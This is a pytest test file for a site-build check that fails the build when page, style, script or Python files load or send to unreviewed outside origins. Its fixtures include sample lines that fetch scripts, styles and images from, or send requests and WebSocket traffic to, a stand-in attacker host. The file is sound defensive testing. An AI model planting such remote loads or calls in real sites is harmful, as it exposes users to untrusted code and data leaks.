"""The gate against other origins finds what was planted, and only that."""

from __future__ import annotations

from pathlib import Path

import pytest

from web.sitebuild import origins
from web.sitebuild.errors import BuildError

REVIEWED = origins.Reviewed(
    namespaces=("http://www.w3.org/2000/svg",),
    vendored={"lib.js": ("https://known.example/a",)},
)

PLANTED = {
    "script-src.html": '<script src="https://evil.example/x.js"></script>',
    "without-scheme.html": '<img src="//evil.example/x.png">',
    "link-element.html": '<link rel="stylesheet" href="http://evil.example/x.css">',
    "form.html": '<form action="https://evil.example/"></form>',
    "srcset.html": '<img srcset="https://evil.example/x.png 2x">',
    "inline.html": '<style>a { background: url("//evil.example/x.png") }</style>',
    "url.css": "a { background: url(https://evil.example/x.png) }",
    "bare-url.css": "a { background: url(//evil.example/x.png) }",
    "import.css": '@import "//evil.example/x.css";',
    "fetch.js": 'fetch("https://evil.example/")',
    "import.js": "import('//evil.example/x.js')",
    "template.js": "new WebSocket(`wss://evil.example/${path}`)",
    "upper.js": 'fetch("HTTPS://evil.example/")',
    "use.svg": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "request.py": 'pyfetch("https://evil.example/")',
    "format.py": 'pyfetch(f"https://evil.example/{path}")',
    "bytes.py": 'x = b"https://evil.example/"',
}

HARMLESS = {
    "link.html": '<p><a href="https://source.example/">our source</a></p>',
    "relative.html": '<script src="assets/x.js"></script><img src="data:image/png;base64,AA//b">',
    "comment.js": "// a comment\nconst a = 1; // another\nconst half = 4 //2\n",
    "namespace.svg": '<svg xmlns="http://www.w3.org/2000/svg"></svg>',
    "docstring.py": '"""From https://paper.example/."""\n\ndef f():\n    """See https://a.example."""',
    "comment.py": "x = 1  # https://paper.example/\n",
    "data.json": '{"source": "https://data.example/"}',
}


@pytest.mark.parametrize("name", PLANTED)
def test_a_planted_address_fails_the_build(name: str) -> None:
    with pytest.raises(BuildError, match=r"(?i)evil\.example"):
        origins.check_own({name: PLANTED[name].encode()}, REVIEWED)


@pytest.mark.parametrize("name", HARMLESS)
def test_what_is_never_requested_passes(name: str) -> None:
    origins.check_own({name: HARMLESS[name].encode()}, REVIEWED)


def test_a_reviewed_address_passes_in_its_own_file_only() -> None:
    script = b'x = "https://known.example/a/b"'
    origins.check_vendored({"lib.js": script}, REVIEWED)
    with pytest.raises(BuildError, match=r"other\.js.*nobody has reviewed"):
        origins.check_vendored({"other.js": script, "lib.js": script}, REVIEWED)


def test_a_reviewed_address_that_is_gone_is_reported() -> None:
    with pytest.raises(BuildError, match="no longer holds"):
        origins.check_vendored({"lib.js": b"x = 1"}, REVIEWED)


def test_every_reviewed_address_has_a_reason() -> None:
    path = Path(origins.__file__).with_name("origins.toml")
    reviewed = origins.Reviewed.load(path)
    count = len(reviewed.namespaces) + sum(map(len, reviewed.vendored.values()))
    assert count > 20
    text = path.read_text(encoding="utf-8")
    assert text.count("address = ") == text.count(", reason = ")
